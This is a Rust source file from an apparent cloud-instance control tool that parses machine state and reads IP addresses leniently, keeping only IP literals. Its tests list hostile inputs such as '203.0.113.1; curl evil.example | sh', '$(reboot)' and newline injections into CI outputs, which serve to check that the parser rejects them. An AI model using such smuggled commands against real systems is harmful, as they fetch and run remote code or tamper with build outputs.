//! What a describe says about a machine: [`InstanceState`] with its [`Addresses`] (IP literals only,
//! a few of a kind, read leniently), a second call's [`Detail`], an accepted call's [`Accepted`],
//! and QingCloud-style [`JobStatus`].

use std::fmt;

use serde::de::DeserializeOwned;
use serde::{Deserialize, Deserializer, Serialize};

use super::{ApiError, Phase};

/// A start or stop the cloud accepted.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Accepted {
    /// The cloud's request id.
    pub request_id: Option<String>,
    /// The asynchronous job the cloud created for the call, where it reports one (QingCloud).
    pub job_id: Option<String>,
    /// Ids the cloud refused inside an otherwise accepted batch, for clouds that report
    /// per-instance results; every other id of the call was accepted.
    pub refused: Vec<(String, ApiError)>,
}

/// One machine's state as the cloud reported it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstanceState {
    /// The instance id.
    pub id: String,
    /// The cloud's own state name, e.g. `STARTING`.
    pub raw: String,
    /// What that state means for a start-and-wait.
    pub phase: Phase,
    /// Why the state is a failure, when the cloud says (e.g. the failed operation's message).
    pub detail: Option<String>,
    /// The request id of a start or stop the cloud reports as failed on this machine (Tencent's
    /// `LatestOperationRequestId`). The provider leaves the phase alone: the engine fails the
    /// machine only when that request is this run's call, never for an older one.
    pub failed_operation: Option<String>,
    /// The error code a failure reports instead of the state name (a failed job's code).
    pub failure_code: Option<String>,
    /// The machine's addresses, as far as the cloud reports them; empty when it reports none.
    pub addresses: Addresses,
    /// The zone the cloud places the machine in, where its answer says.
    pub zone: Option<String>,
}

/// What a [`Provider::detail_call`](super::Provider::detail_call) reports about one machine besides its state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Detail {
    /// The instance id.
    pub id: String,
    /// Its addresses; empty when the cloud reports none.
    pub addresses: Addresses,
    /// Its zone, where the answer says.
    pub zone: Option<String>,
}

/// A machine's IP addresses as the cloud reports them, in the cloud's order: the ones reachable
/// from the internet and the ones inside its network.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Addresses {
    /// Public addresses (an EIP, a public IP).
    pub public: Vec<String>,
    /// Private addresses (the primary network interface's, the VPC's).
    pub private: Vec<String>,
}

impl Addresses {
    /// Whether the cloud reported no address at all.
    pub fn is_empty(&self) -> bool {
        self.public.is_empty() && self.private.is_empty()
    }

    /// The same addresses, at most [`MAX_ADDRESSES`] of each kind: the first ones, in the
    /// cloud's order.
    pub fn bounded(mut self) -> Self {
        for list in [&mut self.public, &mut self.private] {
            if list.len() > MAX_ADDRESSES {
                tracing::debug!(
                    "ignoring {} address(es) of a machine beyond the first {MAX_ADDRESSES} of a kind",
                    list.len() - MAX_ADDRESSES
                );
                list.truncate(MAX_ADDRESSES);
            }
        }
        self
    }

    /// The address to show a person: the first public one, else the first private one.
    pub fn preferred(&self) -> Option<&str> {
        self.public
            .first()
            .or(self.private.first())
            .map(String::as_str)
    }
}

/// A wire field the report can do without, read so that it never fails an answer: null, or a
/// value of another shape than `T`, reads as `T::default()` (add `#[serde(default)]` for a
/// missing field too).
#[derive(Debug, Default)]
pub(crate) struct Lenient<T>(pub(crate) T);

impl<'de, T: DeserializeOwned + Default> Deserialize<'de> for Lenient<T> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let value = serde_json::Value::deserialize(deserializer)?;
        Ok(Lenient(serde_json::from_value(value).unwrap_or_default()))
    }
}

/// A zone name as a cloud sends it, read leniently like the addresses: anything but a non-empty
/// string is no zone.
#[derive(Debug, Default)]
pub(crate) struct WireZone(pub(crate) Option<String>);

impl<'de> Deserialize<'de> for WireZone {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let value = serde_json::Value::deserialize(deserializer)?;
        let zone = (value.as_str().map(str::trim))
            .filter(|zone| !zone.is_empty())
            .map(str::to_string);
        Ok(WireZone(zone))
    }
}

/// The most addresses of one kind (public, private) kept for one machine. A machine has a
/// handful; a describe answer with thousands is hostile or broken, and every one kept is held
/// for the whole run and copied into the report, the Action's outputs and every event.
pub const MAX_ADDRESSES: usize = 16;

/// IP addresses as a cloud sends them — a list of strings, or one string — read leniently: null,
/// other shapes, items that are not strings and empty strings (Volcengine's "no EIP") are none.
/// Only IPv4 and IPv6 literals are kept (in their canonical form), at most [`MAX_ADDRESSES`]: an
/// address reaches the report, the Action's step outputs and a port probe, so a newline, a
/// shell metacharacter or a host name in one must never get that far. What is dropped is
/// counted in one `debug` line.
#[derive(Debug, Default)]
pub(crate) struct WireIps(pub(crate) Vec<String>);

impl<'de> Deserialize<'de> for WireIps {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        // A visitor rather than a `serde_json::Value`: a list of 100,000 items is walked, never
        // held, and only what is kept is allocated.
        let mut kept = KeptIps::default();
        deserializer.deserialize_any(IpsVisitor {
            kept: &mut kept,
            top: true,
        })?;
        kept.log_dropped("a describe answer");
        Ok(WireIps(kept.ips))
    }
}

/// Addresses kept so far, and what was dropped and why.
#[derive(Default)]
struct KeptIps {
    ips: Vec<String>,
    malformed: usize,
    /// The first malformed one, clipped and escaped for the log.
    first_malformed: Option<String>,
    beyond_limit: usize,
}

impl KeptIps {
    fn offer(&mut self, text: &str) {
        let text = text.trim();
        if text.is_empty() {
            return;
        }
        match text.parse::<std::net::IpAddr>() {
            Ok(_) if self.ips.len() >= MAX_ADDRESSES => self.beyond_limit += 1,
            Ok(ip) => self.ips.push(ip.to_string()),
            Err(_) => {
                self.malformed += 1;
                self.first_malformed
                    .get_or_insert_with(|| format!("`{}`", crate::error::clip(text)));
            }
        }
    }

    fn log_dropped(&self, from: &str) {
        if self.malformed > 0 {
            tracing::debug!(
                "ignoring {} address(es) in {from} that are not IP addresses (the first: {})",
                self.malformed,
                self.first_malformed.as_deref().unwrap_or_default()
            );
        }
        if self.beyond_limit > 0 {
            tracing::debug!(
                "ignoring {} address(es) in {from} beyond the first {MAX_ADDRESSES} of a kind",
                self.beyond_limit
            );
        }
    }
}

/// Reads one address field: a string, or a list (`top`) whose string items are addresses;
/// anything else, and lists inside the list, are walked over and skipped.
struct IpsVisitor<'k> {
    kept: &'k mut KeptIps,
    top: bool,
}

impl<'de> serde::de::DeserializeSeed<'de> for IpsVisitor<'_> {
    type Value = ();

    fn deserialize<D: Deserializer<'de>>(self, deserializer: D) -> Result<(), D::Error> {
        deserializer.deserialize_any(self)
    }
}

impl<'de> serde::de::Visitor<'de> for IpsVisitor<'_> {
    type Value = ();

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("IP addresses")
    }

    fn visit_str<E: serde::de::Error>(self, text: &str) -> Result<(), E> {
        self.kept.offer(text);
        Ok(())
    }

    fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut items: A) -> Result<(), A::Error> {
        if self.top {
            let kept = self.kept;
            while (items.next_element_seed(IpsVisitor {
                kept: &mut *kept,
                top: false,
            })?)
            .is_some()
            {}
        } else {
            while items.next_element::<serde::de::IgnoredAny>()?.is_some() {}
        }
        Ok(())
    }

    fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
        use serde::de::IgnoredAny;
        while map.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
        Ok(())
    }

    fn visit_bool<E: serde::de::Error>(self, _: bool) -> Result<(), E> {
        Ok(())
    }

    fn visit_i64<E: serde::de::Error>(self, _: i64) -> Result<(), E> {
        Ok(())
    }

    fn visit_u64<E: serde::de::Error>(self, _: u64) -> Result<(), E> {
        Ok(())
    }

    fn visit_f64<E: serde::de::Error>(self, _: f64) -> Result<(), E> {
        Ok(())
    }

    fn visit_unit<E: serde::de::Error>(self) -> Result<(), E> {
        Ok(())
    }
}

impl InstanceState {
    /// A machine in state `raw`, meaning `phase`, with nothing more to say.
    pub fn new(id: impl Into<String>, raw: impl Into<String>, phase: Phase) -> Self {
        Self {
            id: id.into(),
            raw: raw.into(),
            phase,
            detail: None,
            failed_operation: None,
            failure_code: None,
            addresses: Addresses::default(),
            zone: None,
        }
    }

    /// The same state with `addresses`, at most [`MAX_ADDRESSES`] of each kind (a cloud that
    /// lists them in several places, one per network interface, is bounded here).
    pub fn with_addresses(self, addresses: Addresses) -> Self {
        Self {
            addresses: addresses.bounded(),
            ..self
        }
    }

    /// The same state in `zone`.
    pub fn with_zone(self, zone: Option<String>) -> Self {
        Self { zone, ..self }
    }
}

/// Where a start's asynchronous job is (QingCloud's job log).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobStatus {
    /// The job id.
    pub job_id: String,
    /// Whether the job is still going, done, or failed.
    pub phase: JobPhase,
    /// The cloud's status word, e.g. `working`.
    pub raw: String,
    /// The job's error codes, when it failed and the cloud says why.
    pub error_code: Option<String>,
}

/// What a job's status means for the machines it starts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JobPhase {
    /// Queued or working: the machines' own states decide.
    Working,
    /// Finished: the machines' own states decide.
    Successful,
    /// The start failed: its machines will not come up.
    Failed,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn address_fields_are_read_leniently_and_never_fail() {
        #[derive(Deserialize)]
        struct Wire {
            #[serde(default)]
            ips: WireIps,
            #[serde(default)]
            pair: Lenient<(String, u8)>,
        }
        let read = |json: &str| -> (Vec<String>, (String, u8)) {
            let wire: Wire = serde_json::from_str(json).unwrap();
            (wire.ips.0, wire.pair.0)
        };
        assert_eq!(
            read(r#"{"ips":["10.0.0.1"," 10.0.0.2 "]}"#).0,
            ["10.0.0.1", "10.0.0.2"]
        );
        assert_eq!(read(r#"{"ips":"203.0.113.1"}"#).0, ["203.0.113.1"]);
        for odd in ["null", r#""""#, "7", "{}", r#"[null,1,"",{}]"#] {
            assert!(read(&format!(r#"{{"ips":{odd}}}"#)).0.is_empty(), "{odd}");
        }
        assert!(read("{}").0.is_empty());
        assert_eq!(read(r#"{"pair":["a",1]}"#).1, ("a".to_string(), 1));
        assert_eq!(read(r#"{"pair":["a",300]}"#).1, (String::new(), 0));
        assert_eq!(read(r#"{"pair":null}"#).1, (String::new(), 0));
    }

    /// Issue 20 item 1: an address reaches the report, the Action's `GITHUB_OUTPUT` and a port
    /// probe, so only IP literals are kept, and only the first few of a kind.
    #[test]
    fn only_ip_literals_are_kept_and_at_most_a_few_of_a_kind() {
        let read = |json: &str| -> Vec<String> {
            #[derive(Deserialize)]
            struct Wire {
                ips: WireIps,
            }
            serde_json::from_str::<Wire>(json).unwrap().ips.0
        };
        let hostile = [
            "203.0.113.1\nexit-code=0",
            "203.0.113.1; curl evil.example | sh",
            "$(reboot)",
            "`id`",
            "evil.example.com",
            "10.0.0.1/24",
            "fe80::1%eth0",
            "1.2.3",
            "::ffff:1.2.3.4\r\nreport<<EOF",
        ];
        let listed = serde_json::to_string(&hostile).unwrap();
        assert!(read(&format!(r#"{{"ips":{listed}}}"#)).is_empty());
        assert_eq!(
            read(r#"{"ips":["2001:DB8::0:1","::ffff:1.2.3.4","evil",[["10.0.0.9"]],"10.0.0.1"]}"#),
            ["2001:db8::1", "::ffff:1.2.3.4", "10.0.0.1"],
            "canonical literals; lists inside the list are skipped"
        );
        let many: Vec<String> = (0..2400)
            .map(|n| format!("10.{}.{}.1", n / 250, n % 250))
            .collect();
        let kept = read(&format!(
            r#"{{"ips":{}}}"#,
            serde_json::to_string(&many).unwrap()
        ));
        assert_eq!(kept, many[..MAX_ADDRESSES]);
        // Several lists of one kind (one per network interface) are bounded together.
        let state = InstanceState::new("i", "RUNNING", Phase::Running).with_addresses(Addresses {
            public: many.clone(),
            private: many[..3].to_vec(),
        });
        assert_eq!(state.addresses.public.len(), MAX_ADDRESSES);
        assert_eq!(state.addresses.private.len(), 3);
    }

    #[test]
    fn the_preferred_address_is_the_first_public_one_else_the_first_private_one() {
        let mut addresses = Addresses::default();
        assert_eq!(addresses.preferred(), None);
        addresses.private = vec!["10.0.0.1".into(), "10.0.0.2".into()];
        assert_eq!(addresses.preferred(), Some("10.0.0.1"));
        addresses.public = vec!["203.0.113.1".into()];
        assert_eq!(addresses.preferred(), Some("203.0.113.1"));
    }
}
